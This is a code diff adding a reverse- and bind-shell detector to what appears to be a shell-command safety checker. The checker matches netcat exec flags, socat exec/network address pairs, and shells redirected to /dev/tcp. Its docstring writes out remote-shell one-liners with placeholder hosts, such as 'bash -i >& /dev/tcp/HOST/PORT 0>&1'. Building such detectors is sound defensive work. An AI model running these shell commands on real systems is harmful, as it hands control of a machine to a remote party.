@@ -79,9 +79,40 @@ def runner_target(command: SimpleCommand) -> tuple[str, str] | None:
     return (target, "node") if target == "-" or target.endswith((".js", ".mjs", ".cjs", ".ts", ".mts")) else None
 
 
+_NETCATS = frozenset({"nc", "ncat", "netcat", "nc.openbsd", "nc.traditional", "busybox"})
+_NETCAT_EXEC = ("-e", "-c", "--exec", "--sh-exec", "--lua-exec")
+_SOCAT_NET = re.compile(r"^(tcp|tcp4|tcp6|tcp-connect|tcp-listen|udp|udp-connect|udp-listen|openssl|ssl|"
+                        r"openssl-connect|openssl-listen|sctp|socks4a?|proxy)[:-]", re.IGNORECASE)
+_SOCAT_RUN = re.compile(r"^(exec|system)[:,]", re.IGNORECASE)
+_INTERACTIVE_SHELLS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "mksh"})
+
+
+def network_shell(command: SimpleCommand) -> str | None:
+    """Round 10: a program that runs commands the network sends — a reverse or bind shell. ``nc HOST PORT -e
+    /bin/sh`` (``-c``, ``ncat --sh-exec``), ``socat tcp:HOST:PORT exec:sh``, a shell whose stdin or output is
+    a ``/dev/tcp`` socket (``bash -i >& /dev/tcp/HOST/PORT 0>&1``): what it runs arrives at run time."""
+    program, argv = command.program, command.argv
+    if program in _NETCATS and any(a in _NETCAT_EXEC or a.startswith(tuple(o + "=" for o in _NETCAT_EXEC
+                                                                           if o.startswith("--")))
+                                   or (a.startswith("-") and not a.startswith("--") and len(a) > 2
+                                       and a[-1] in "ec" and a[1:].isalpha()) for a in argv[1:]):
+        return f"{program} runs a program whose input is a network connection (a remote shell)"
+    if program == "socat":
+        addresses = [a for a in argv[1:] if not a.startswith("-")]
+        if any(_SOCAT_RUN.match(a) for a in addresses) and any(_SOCAT_NET.match(a) for a in addresses):
+            return "socat joins a network connection to a program it runs (a remote shell)"
+    if program in _INTERACTIVE_SHELLS and any(r.target.startswith(("/dev/tcp/", "/dev/udp/"))
+                                              for r in command.redirects):
+        return f"{program} reads or writes a network socket: it runs commands the network sends (a remote shell)"
+    return None
+
+
 def remote_code(command: SimpleCommand) -> str | None:
     """Why ``command`` runs code fetched from outside (a URL, a git repository, a Go module), or None."""
     program = command.program
+    shell = network_shell(command)
+    if shell is not None:
+        return shell
     subcommands = _PACKAGE_EXEC.get(program)
     if subcommands is None:
         return None
